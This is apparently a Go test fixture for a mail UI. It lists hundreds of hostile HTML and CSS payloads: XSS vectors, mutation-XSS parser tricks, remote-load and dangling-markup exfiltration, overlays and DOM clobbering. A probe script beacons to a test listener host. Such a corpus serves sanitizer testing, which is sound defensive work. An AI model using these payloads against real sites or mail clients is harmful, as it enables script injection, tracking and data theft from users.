package ui_test

import (
	"fmt"
	"strings"
)

// Attacks by mail, written for this test. In them {URL} and {HOST} name what the
// listener answers for, {IP} names it without a name, and {JS} does everything
// that a script would be written for. {TAB}, {LF}, {FF}, {NUL} and {SOH} are those
// characters. Each is balanced, so that several of them can share a mail.
var hostileFragments = strings.Split(strings.TrimSpace(`
<script>{JS}</script>
<ScRiPt >{JS}</sCrIpT >
<script src="{URL}"></script>
<script src=//{HOST}></script>
<script type="module">import "{URL}"</script>
<script/x=">">{JS}</script>
<script{FF}type=text/javascript>{JS}</script>
<<script>{JS}//<</script>
<scr<script>ipt>{JS}</scr</script>ipt>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{URL}"]}]}</script>
<script type="importmap">{"imports":{"x":"{URL}"}}</script><script type="module">import "x"</script>
<svg><script>{JS}</script></svg>
<svg><script href="{URL}"/></svg>
<svg><script xlink:href="{URL}"></script></svg>
<math><script>{JS}</script></math>
<img src=x onerror="{JS}">
<img src=x onerror={JS}>
<img/src="x"/onerror="{JS}"/>
<img src=x OnErRoR='{JS}'>
<img src=x onerror{LF}={TAB}"{JS}">
<img src=x{NUL} onerror="{JS}">
<img src=x title="a" onerror="{JS}" title="b" onerror="">
<img src="x:x" alt="'" onerror='{JS}' alt="'">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="{JS}">
<image src=x onerror="{JS}">
<svg onload="{JS}"></svg>
<svg/onload={JS}></svg>
<svg><g onload="{JS}"></g></svg>
<svg><image href=x onerror="{JS}"/></svg>
<svg><animate onbegin="{JS}" attributeName=x dur=1s></svg>
<svg><set attributeName=href to="javascript:{JS}" onbegin="{JS}"/></svg>
<svg><a><animate attributeName=href values="javascript:{JS}"/><text y=20>a</text></a></svg>
<details open ontoggle="{JS}">x</details>
<style>@keyframes grow{from{width:1px}to{width:2px}}</style><p style="animation:grow 1s" onanimationstart="{JS}">x</p>
<p onpointerenter="{JS}" onpointerover="{JS}" onmousemove="{JS}" style="position:fixed;inset:0">x</p>
<p style="content-visibility:auto" oncontentvisibilityautostatechange="{JS}">x</p>
<input autofocus onfocus="{JS}">
<input type=image src="{URL}">
<textarea autofocus onfocus="{JS}"></textarea>
<select autofocus onfocus="{JS}"><option>x</select>
<button autofocus onfocus="{JS}">x</button>
<keygen autofocus onfocus="{JS}">
<div tabindex=0 autofocus onfocus="{JS}">x</div>
<a href="#x" id=x autofocus onfocus="{JS}">x</a>
<marquee onstart="{JS}">x</marquee>
<video src=x onerror="{JS}"></video>
<video onerror="{JS}"><source onerror="{JS}" src=x></video>
<video poster="{URL}"></video>
<video autoplay src="{URL}"><track default src="{URL}"></video>
<audio src="{URL}" autoplay preload=auto></audio>
<audio><source src="{URL}"></audio>
<object data="{URL}" onerror="{JS}"></object>
<object type="text/html" data="data:text/html,<script>{JS}</script>"></object>
<object data="javascript:{JS}"><param name=src value="{URL}"></object>
<object classid="clsid:0" codebase="{URL}"></object>
<embed src="{URL}" onload="{JS}">
<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>">
<applet code=x codebase="{URL}" archive="{URL}"></applet>
<iframe src="{URL}"></iframe>
<iframe src="javascript:{JS}"></iframe>
<iframe src="java{TAB}script:{JS}"></iframe>
<iframe src="data:text/html,<script>{JS}</script>"></iframe>
<iframe srcdoc="<script>{JS}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror='{JS}'&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>
<iframe onload="{JS}"></iframe>
<fencedframe src="{URL}"></fencedframe><portal src="{URL}"></portal>
<meta http-equiv="refresh" content="0;url={URL}">
<meta http-equiv="refresh" content="0; URL='javascript:{JS}'">
<meta http-equiv=refresh content="0,{URL}">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>{JS}</script>">
<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {URL}"><img src="x:y">
<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://{HOST}">x</a>
<meta http-equiv="Link" content="<{URL}>; rel=stylesheet">
<link rel=stylesheet href="{URL}">
<link rel="stylesheet" href="data:text/css,@import '{URL}'" onload="{JS}">
<link rel="alternate stylesheet" href="{URL}" title=x>
<link rel=preload as=image href="{URL}">
<link rel=preload as=script href="{URL}">
<link rel=preload as=style href="{URL}">
<link rel=preload as=font crossorigin href="{URL}">
<link rel=preload as=image imagesrcset="{URL} 1x">
<link rel=modulepreload href="{URL}">
<link rel=prefetch href="{URL}">
<link rel=prerender href="{URL}">
<link rel=preconnect href="{URL}">
<link rel="dns-prefetch preconnect" href="//{HOST}">
<link rel=dns-prefetch href="//p{ID}.names.test">
<a href="https://p{ID}.names.test/">x</a>
<link rel=icon href="{URL}"><link rel="shortcut icon" href="{URL}"><link rel=apple-touch-icon href="{URL}">
<link rel=manifest href="{URL}">
<link rel=import href="{URL}">
<link rel="expect" blocking="render" href="#never">
<img src="{URL}">
<img src="{IP}">
<img src=//{HOST}>
<img src="\\{HOST}">
<img src="http:/\{HOST}">
<img src="  h{TAB}ttp://{HOST}">
<img src="ftp://{HOST}">
<img srcset="{URL} 1x, {URL} 2x">
<img src="data:,x" srcset="{URL} 100w" sizes="100vw">
<img lowsrc="{URL}" dynsrc="{URL}" longdesc="{URL}">
<img src="{URL}" loading=eager fetchpriority=high decoding=sync attributionsrc="{URL}">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{URL}'/></svg>">
<picture><source srcset="{URL}"><img src="data:,x"></picture>
<svg><image href="{URL}" width=9 height=9></svg>
<svg><image xlink:href="{URL}" width=9 height=9 /></svg>
<svg><use href="{URL}#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='{URL}'/></svg>#x"/></svg>
<svg width=9 height=9><filter id=f{ID}><feImage href="{URL}"/></filter><rect width=9 height=9 filter="url(#f{ID})"/></svg>
<svg width=9 height=9><rect width=9 height=9 fill="url({URL}#x)" mask="url({URL}#m)"/></svg>
<svg><style>@import "{URL}";</style></svg>
<svg><foreignObject><img src="{URL}" onerror="{JS}"></foreignObject></svg>
<table background="{URL}"><tr background="{URL}"><td background="{URL}">x</td></tr></table>
<bgsound src="{URL}"><layer src="{URL}"></layer><ilayer src="{URL}"></ilayer><xml src="{URL}"></xml>
<p style="background:url({URL})">x</p>
<p style="background-image: url( '{URL}' )">x</p>
<p style="background:url(//{HOST})">x</p>
<p style="background:\75rl({URL})">x</p>
<p style="background:u\72 l('{URL}')">x</p>
<p style="background:url(\68ttp://{HOST})">x</p>
<p style="background/**/:/**/url(/**/{URL})">x</p>
<p style='background:url("{URL}'>x</p>
<p style="background:image-set('{URL}' 1x)">x</p>
<p style="background:-webkit-image-set(url({URL}) 1x)">x</p>
<p style="background:-webkit-cross-fade(url({URL}),url({URL}),50%)">x</p>
<p style="background:linear-gradient(red,blue),url({URL})">x</p>
<p style="--u:url({URL});background:var(--u)">x</p>
<p style="display:list-item;list-style:url({URL})">x</p>
<p style="display:list-item;list-style-image:url({URL})">x</p>
<p style="border:9px solid;border-image:url({URL}) 9">x</p>
<p style="border-image-source:url({URL});border-style:solid">x</p>
<p style="cursor:url({URL}),auto">x</p>
<p style="filter:url({URL}#x)">x</p>
<p style="mask:url({URL})">x</p>
<p style="-webkit-mask-image:url({URL})">x</p>
<p style="clip-path:url({URL}#x)">x</p>
<p style="shape-outside:url({URL});float:left">x</p>
<p style="content:url({URL})">x</p>
<p style="width:expression({JS})">x</p>
<p style="behavior:url({URL});-moz-binding:url({URL}#x)">x</p>
<p style="font-family:'x';src:url({URL})">x</p>
<p style="color:red;}*{background:url({URL})}">x</p>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</p>
<p style="position:absolute;inset:-999px;transform:scale(99)">overlay</p>
<p style="position:sticky;top:0;margin:-9999px">overlay</p>
<style>@import "{URL}";</style>
<style>@import url({URL}) screen;</style>
<style>/**/@\69mport '{URL}';</style>
<style>@font-face{font-family:f{ID};src:url({URL})}.f{ID}{font-family:f{ID}}</style><p class=f{ID}>x</p>
<style>p{background:url({URL})}</style>
<style>@media all{p{background:url({URL})}}</style>
<style>@supports (color:red){p{background:url({URL})}}@layer a{p{list-style:url({URL})}}@container (width>0){p{content:url({URL})}}</style>
<style>p::before{content:url({URL})}p:hover{cursor:url({URL}),auto}</style>
<style>a[href^="h"]{background:url({URL})}p:has(b){border-image:url({URL}) 1}p{&{mask:url({URL})}}</style><a href="https://a.example">x</a>
<style>@namespace svg url({URL});@page{background:url({URL})}@property --p{syntax:'<url>';inherits:true;initial-value:url({URL})}</style>
<style><!--p{background:url({URL})}--></style>
<style>p{color:red;background:url({URL}</style>
<style>html,body,:root,*{position:fixed!important;background:url({URL})!important}</style>
<style type="text/css">p{background:url("\{LF}{URL}")}</style>
<style onload="{JS}">p{}</style>
<a href="javascript:{JS}">x</a>
<a href="JaVa{TAB}Sc{LF}RiPt:{JS}">x</a>
<a href="{SOH} javascript:{JS}">x</a>
<a href="&#106;&#x61;vascript&colon;{JS}">x</a>
<a href="java&NewLine;script&Tab;&colon;{JS}">x</a>
<a href="data:text/html,<script>{JS}</script>">x</a>
<a href="vbscript:{JS}">x</a><a href="feed:javascript:{JS}">x</a><a href="view-source:{URL}">x</a>
<a href="{URL}" ping="{URL}" target=_top attributionsrc="{URL}">x</a>
<a href="{URL}" target=_parent rel=opener referrerpolicy=unsafe-url download>x</a>
<a href="/tickets/1/change?stage=closed" target=_self>x</a><a href="//:javascript{JS}">x</a>
<map name=m{ID}><area shape=default href="javascript:{JS}" target=_top></map><img usemap="#m{ID}" src="data:,x">
<svg><a href="javascript:{JS}" xlink:href="javascript:{JS}"><text y=20>x</text></a></svg>
<math href="javascript:{JS}"><mtext>x</mtext></math>
<form action="{URL}"><input name=password autofocus><input type=submit></form>
<form action="javascript:{JS}"><button formaction="javascript:{JS}" formtarget=_top>x</button></form>
<form id=f{ID} action="{URL}" target=_top></form><button form=f{ID}>x</button>
<isindex action="{URL}" prompt=x>
<form id=location name=location><input name=attributes><input id=top name=parentNode></form>
<img name=getElementById id=cookie><a id=flow name=ticket href="{URL}">x</a><div id=thread class=composer>x</div>
<template><script>{JS}</script><img src="{URL}"></template>
<div><template shadowrootmode=open><style>:host{background:url({URL})}</style><img src=x onerror="{JS}"></template></div>
<x-card is="x-y" onclick="{JS}" style="background:url({URL})"><slot></slot></x-card>
<p contenteditable autofocus onfocus="{JS}" accesskey=x popover="auto">x</p>
<dialog open style="position:fixed;inset:0"><form method=dialog><input autofocus onfocus="{JS}"></form></dialog>
<!--[if gte IE 4]><script>{JS}</script><![endif]-->
<!--><img src=x onerror="{JS}">-->
<!--a--!><img src=x onerror="{JS}">
<!-- --!><script>{JS}</script> -->
<![CDATA[<img src=x onerror="{JS}">]]>
<?xml-stylesheet href="{URL}"?><?import namespace=t implementation="{URL}">
+ADw-script+AD4-{JS}+ADw-/script+AD4-
<svg><desc><title><style><img title="</style><img src=x onerror={JS}>"></style></title></desc></svg>
<svg><p><style><a title="</style><img src=x onerror={JS}>"></a></style></p></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;"></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}></style></mglyph></form>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror={JS}>"></style></annotation-xml></math>
<svg><foreignObject><math><mi><style><b title="</style><img src=x onerror={JS}>"></b></style></mi></math></foreignObject></svg>
<noscript><p title="</noscript><img src=x onerror={JS}>"></p></noscript>
<noembed><p title="</noembed><img src=x onerror={JS}>"></p></noembed>
<noframes><p title="</noframes><img src=x onerror={JS}>"></p></noframes>
<title><p title="</title><img src=x onerror={JS}>"></p></title>
<textarea><p title="</textarea><img src=x onerror={JS}>"></p></textarea>
<xmp><p title="</xmp><img src=x onerror={JS}>"></p></xmp>
<listing>&lt;img src=x onerror={JS}&gt;</listing>
<select><style></select><img src=x onerror={JS}></style></select>
<select><iframe></select><img src=x onerror={JS}></iframe></select>
<table><tr><td><svg><tr><td><style><img title="</style><img src=x onerror={JS}>"></style></table>
<a href="x"><table><a href="javascript:{JS}"><td></td></a></table></a>
<b><i><p></b><img src=x onerror={JS}></i></p>
`), "\n")

// Attacks that take all that follows with them: each fills a mail of its own.
var hostileBodies = []string{
	`<script>{JS}`,
	`<script src="{URL}"`,
	`<!doctype html><html manifest="{URL}"><head profile="{URL}"><base href="{URL}/"></head><body><img src="a.png"><a href="b">x</a><link rel=stylesheet href=c></body></html>`,
	`<base href="javascript:/"><a href="/{JS}">x</a><base target=_top><a href="{URL}">x</a>`,
	`<body onload="{JS}" onpageshow="{JS}" onfocus="{JS}" onresize="{JS}" onhashchange="{JS}">x</body>`,
	`<body background="{URL}" style="background:url({URL})">x`,
	`<html onload="{JS}" style="background:url({URL})"><body>x`,
	`<frameset onload="{JS}" rows="*"><frame src="{URL}"><frame src="javascript:{JS}"></frameset>`,
	`<plaintext><img src=x onerror="{JS}">`,
	`<style>p{background:url({URL})`,
	`<style><img src="</style><img src=x onerror={JS}//">`,
	`<svg><style><!--</style><img title="--><img src=x onerror={JS}>">`,
	`<!--<img src="--><img src=x onerror={JS}//">`,
	`<!--`,
	`<title><img src=x onerror={JS}>`,
	`<textarea><img src=x onerror={JS}>`,
	`<noscript><img src=x onerror={JS}>`,
	`<template><p>x</template></template><img src=x onerror={JS}>`,
	`<iframe><img src=x onerror={JS}>`,
	`<img src="x" alt="` + "`" + `><img src=x onerror={JS}>`,
	`<img src='{URL}?leak=<p>dangling markup`,
	`<a href='{URL}?leak=<p>dangling link`,
	`<form action="{URL}"><input type=hidden name=leak value='<p>dangling field`,
	`<table><table background="{URL}"><caption><svg onload={JS}>`,
	`<math><mi><svg><mtext><style></math><img src=x onerror={JS}>`,
	`</div></div></body></html><script>{JS}</script><img src="{URL}">`,
	`<div class="mail-body"><style>.mail-body{background:url({URL})}</style><script>{JS}</script>`,
	"\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>{JS}<\x00/script>",
	strings.Repeat("<div>", 20_000) + `<img src=x onerror={JS}>`,
	strings.Repeat("<b><i><table><tr><td>", 300) + `<script>{JS}</script><img src="{URL}">`,
	strings.Repeat(`<a href="javascript:{JS}">`, 500),
	strings.Repeat(`<svg><math><style>`, 400) + `<img src=x onerror={JS}>`,
	strings.Repeat("<font>", 3_000) + "<p>" + strings.Repeat("</font>", 10) + `<svg onload={JS}>`,
	`<img ` + strings.Repeat("a ", 20_000) + `src=x onerror={JS}>`,
	`<p style="` + strings.Repeat("color:red;", 5_000) + `background:url({URL})">x`,
	`<style>` + strings.Repeat("p{color:red}", 5_000) + `p{background:url({URL})}</style><p>x`,
	`<style>` + strings.Repeat("@media all{", 200) + `p{background:url({URL})}</style><p>x`,
}

// hostileCount is how many attacks there are.
var hostileCount = len(hostileFragments) + len(hostileBodies)

// attack returns the attack with a number, and whether it must be alone.
func attack(number int, listener string) (source string, alone bool) {
	if alone = number >= len(hostileFragments); alone {
		source = hostileBodies[number-len(hostileFragments)]
	} else {
		source = hostileFragments[number]
	}
	host := fmt.Sprintf("heard.test/p%d", number)
	script := "try{top.ran=1}catch{};try{top.document.title=`ran`}catch{};try{new(Image)().src=`http://{HOST}`}catch{};try{top.location=`http://{HOST}`}catch{};try{alert(1)}catch{}"
	return strings.NewReplacer("{URL}", "http://"+host, "{HOST}", host, "{IP}", fmt.Sprintf("http://%s/p%d", listener, number), "{ID}", fmt.Sprint(number),
		"{TAB}", "\t", "{LF}", "\n", "{FF}", "\f", "{NUL}", "\x00", "{SOH}", "\x01").Replace(strings.ReplaceAll(source, "{JS}", script)), alone
}
